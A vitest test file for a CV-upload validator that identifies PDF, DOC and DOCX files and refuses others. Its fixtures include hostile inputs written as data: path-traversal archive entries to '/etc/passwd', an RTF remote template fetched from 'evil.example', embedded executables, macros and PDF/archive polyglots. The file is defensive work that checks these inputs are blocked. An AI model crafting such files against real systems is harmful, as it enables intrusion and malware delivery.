import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { compoundFile, doc, docx, pdf, WORD_PARTS, zip } from '#tests/support/documents.ts';
import { examineDocument } from './document-kind.server.ts';

const text = (content: string) => Buffer.from(content, 'latin1');
const sample = (name: string) => readFileSync(`tests/support/documents/${name}`);
const tablesOf = (file: Buffer, at: number, value: number) => {
  const changed = Buffer.from(file);
  changed.writeUInt32LE(value, at);
  return changed;
};

describe('a document is known by its content', () => {
  test.each([
    ['PDF', pdf(), 'pdf'],
    ['PDF with something after its end', Buffer.concat([pdf(), Buffer.alloc(900)]), 'pdf'],
    [
      'PDF in which an archive is attached',
      Buffer.concat([text('%PDF-1.7\n'), docx(), Buffer.alloc(70_000), pdf()]),
      'pdf',
    ],
    ['PDF with the sign of an archive in it by chance', Buffer.concat([text('%PDF-1.7 PK\u0005\u0006'), pdf()]), 'pdf'],
    [
      'PDF behind a line of a printer',
      Buffer.concat([text('\u001b%-12345X@PJL ENTER LANGUAGE=PDF\r\n'), pdf()]),
      'pdf',
    ],
    [
      'PDF behind a header of a mail server',
      Buffer.concat([text('Content-Type: application/pdf\r\n\r\n'), pdf()]),
      'pdf',
    ],
    ['PDF behind bytes that mean nothing', Buffer.concat([Buffer.alloc(1_000), pdf()]), 'pdf'],
    ['PDF with much behind its end', Buffer.concat([pdf(), Buffer.alloc(9_000, '\0\r\n')]), 'pdf'],
    [
      'PDF with a page of a server behind its end',
      Buffer.concat([pdf(), text('\n<!-- served -->'.repeat(200))]),
      'pdf',
    ],
    ['PDF without an end mark', Buffer.from(pdf().toString('latin1').replace('%%EOF', ''), 'latin1'), 'pdf'],
    [
      'PDF in which an archive is attached as it is',
      pdf(2_000, `stream\n${docx().toString('latin1')}\nendstream`),
      'pdf',
    ],
    ['DOC', doc(), 'doc'],
    ['DOC that is RTF', sample('cv-rtf-called.doc'), 'doc'],
    ['DOC that Word 2003 saved', sample('cv-saved-by-word-2003-control.doc'), 'doc'],
    ['DOC that Word 2007 saved, with its theme as an archive', sample('cv-saved-by-word-2007-or-later.doc'), 'doc'],
    ['DOC with a long directory', doc(...Array.from({ length: 40 }, (_, index) => `Part ${index}`)), 'doc'],
    ['DOCX', docx(), 'docx'],
    [
      'DOCX as Word on the web names its parts',
      zip([WORD_PARTS[0] ?? { name: '' }, { name: 'word/document2.xml' }]),
      'docx',
    ],
  ])('%s', async (_what, bytes, kind) => {
    expect(await examineDocument(bytes)).toEqual({ ok: true, kind, bytes });
  });
});

describe('data after the end of a DOCX is left out', () => {
  const plain = docx();
  const end = plain.length - 22;
  const large = Buffer.alloc(56 + 20);
  large.writeUInt32LE(0x06064b50, 0);
  large.writeUInt32LE(0x07064b50, 56);
  large.writeBigUInt64LE(BigInt(plain.readUInt16LE(end + 10)), 32);
  large.writeBigUInt64LE(BigInt(plain.readUInt32LE(end + 12)), 40);
  large.writeBigUInt64LE(BigInt(plain.readUInt32LE(end + 16)), 48);
  test.each([
    ['a comment', zip(WORD_PARTS, { comment: text('hello') })],
    ['a line end', Buffer.concat([plain, text('\r\n')])],
    ['an end record for large archives', Buffer.concat([plain.subarray(0, end), large, plain.subarray(end)])],
  ])('%s', async (_what, bytes) => {
    const examined = await examineDocument(bytes);
    expect(examined).toMatchObject({ ok: true, kind: 'docx' });
    const storedBytes = examined.ok ? examined.bytes : bytes;
    expect(storedBytes.length).toBe(plain.length);
    expect(await examineDocument(storedBytes)).toEqual({ ok: true, kind: 'docx', bytes: storedBytes });
  });
});

describe('files that are no document, or more than one', () => {
  test.each([
    ['nothing', Buffer.alloc(0)],
    ['a text', text('My CV')],
    ['a program', text(`MZ${'\u0000'.repeat(2000)}`)],
    ['a PDF that was cut off', pdf(3000).subarray(0, 2000)],
    ['a page before a PDF', Buffer.concat([text('<html><script></script>'), pdf()])],
    ['a PDF that ends as an archive', Buffer.concat([pdf(), docx()])],
    ['a PDF that ends as an archive with a comment', Buffer.concat([pdf(), zip(WORD_PARTS, { comment: pdf() })])],
    ['an archive that begins as a PDF', zip(WORD_PARTS, { before: pdf() })],
    ['an archive behind a program', zip(WORD_PARTS, { before: text('MZ\u0090') })],
    ['an archive that is no document', zip([{ name: 'a.txt' }])],
    ['an archive with a PDF where readers look', zip([{ name: 'a.txt', content: '%PDF-1.4' }, ...WORD_PARTS])],
    ['an archive with a path that leads out of it', docx({ name: '../../etc/passwd' })],
    ['an archive with a path from the root', docx({ name: '/etc/passwd' })],
    ['an archive with a path of Windows', docx({ name: 'C:\\cv.txt' })],
    ['an archive that names a part twice', docx({ name: 'word/document.xml' })],
    ['an archive with a locked part', docx({ name: 'word/a.xml', isEncrypted: true })],
    ['an archive with a program in it', docx({ name: 'word/embeddings/run.exe' })],
    [
      'an archive of too many parts',
      docx(...Array.from({ length: 5_001 }, (_, index) => ({ name: `word/${index}.xml` }))),
    ],
    ['an archive that was cut off', docx().subarray(0, 200)],
    ['a DOCX with macros', docx({ name: 'word/vbaProject.bin' })],
    ['a spreadsheet of the time of DOC', compoundFile(['Workbook'])],
    ['a DOC with macros', doc('Macros', 'VBA')],
    ['a DOC that ends as an archive', Buffer.concat([doc(), docx()])],
    ['a DOC that was cut off', doc().subarray(0, 1100)],
    ['a DOC whose directory leads round in a circle', tablesOf(doc(), 512 + 4, 1)],
    ['a DOC whose table is elsewhere', tablesOf(doc(), 76, 0x00ffffff)],
    ['only the first bytes of a DOC', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
  ])('%s', async (_what, bytes) => {
    expect(await examineDocument(bytes)).toMatchObject({ ok: false });
  });
});

describe('a refusal says what the file is', () => {
  const DOC_97 = sample('cv-saved-by-word-2003-control.doc');
  const locked = Buffer.from(DOC_97);
  locked.writeUInt16LE(
    0x0100 | locked.readUInt16LE(DOC_97.indexOf(Buffer.from('eca5', 'hex')) + 10),
    DOC_97.indexOf(Buffer.from('eca5', 'hex')) + 10,
  );
  test.each([
    ['RTF with an object', text('{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}'), { fault: 'object_inside' }],
    [
      'RTF with a template from elsewhere',
      text('{\\rtf1{\\*\\template http://evil.example/a.dotm}}'),
      { fault: 'object_inside' },
    ],
    ['half an RTF', Buffer.concat([text('{\\rtf1\\ansi '), Buffer.alloc(3_000, 'x')]), { fault: 'incomplete' }],
    ['a page', text('\n<html><body>CV</body></html>'), { fault: 'other', name: 'a web page' }],
    [
      'a page that Word saved',
      text('<html xmlns:o="urn:schemas-microsoft-com:office:office">'),
      { fault: 'other', name: 'a web page' },
    ],
    [
      'a web archive',
      text('MIME-Version: 1.0\r\nContent-Type: multipart/related'),
      { fault: 'other', name: 'a web archive' },
    ],
    ['an AVIF photo', text('\0\0\0\x18ftypavif\0\0\0\0'), { fault: 'other', name: 'a photo (AVIF)' }],
    ['a film of a phone', text('\0\0\0\x14ftypqt  \0\0\0\0'), { fault: 'other', name: 'a video' }],
    [
      'a file of Google Drive',
      text('{"":"WARNING! DO NOT EDIT THIS FILE!","doc_id":"x","email":"wyn@mail.example"}'),
      { fault: 'other', name: 'a link to a Google document' },
    ],
    ['a shortcut', text('[InternetShortcut]\r\nURL=https://x.example'), { fault: 'other', name: 'a shortcut' }],
    [
      'Word XML',
      text('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'),
      { fault: 'other', name: 'a Word XML document' },
    ],
    ['a photo', Buffer.from('ffd8ffe000104a464946', 'hex'), { fault: 'other', name: 'a JPEG picture' }],
    [
      'ODT',
      zip([{ name: 'mimetype', content: 'x' }, { name: 'META-INF/manifest.xml' }]),
      { fault: 'other', name: 'an OpenDocument file (ODT)' },
    ],
    ['Pages', zip([{ name: 'Index/Document.iwa', content: 'x' }]), { fault: 'other', name: 'a Pages document' }],
    ['an archive', zip([{ name: 'cv.pdf', content: 'x' }]), { fault: 'other', name: 'a ZIP archive' }],
    ['a workbook', compoundFile(['Workbook']), { fault: 'other', name: 'an Excel workbook' }],
    ['a DOCX with a password', compoundFile(['EncryptionInfo', 'EncryptedPackage']), { fault: 'locked' }],
    ['a DOC with a password', locked, { fault: 'locked' }],
    ['a DOC with macros', doc('Macros', 'VBA'), { fault: 'macros' }],
    ['a DOCX with macros', docx({ name: 'word/vbaProject.bin' }), { fault: 'macros' }],
    ['a DOCX with a program', docx({ name: 'word/embeddings/run.exe' }), { fault: 'program_inside' }],
    ['half a PDF', pdf(2000).subarray(0, 900), { fault: 'incomplete' }],
    ['half a DOCX', docx().subarray(0, 200), { fault: 'incomplete' }],
    ['a PDF that is an archive', Buffer.concat([pdf(), docx()]), { fault: 'disguised' }],
    ['a page before a PDF', Buffer.concat([text('<html>'), pdf()]), { fault: 'disguised' }],
    ['a text', text('Wyn Tarn\r\n07700 900151\r\n'), { fault: 'other', name: 'a text file' }],
    ['noise', Buffer.alloc(600, 1), { fault: 'unknown' }],
  ])('%s', async (_what, bytes, refusal) => {
    expect(await examineDocument(bytes)).toEqual({ ok: false, ...refusal });
  });
});
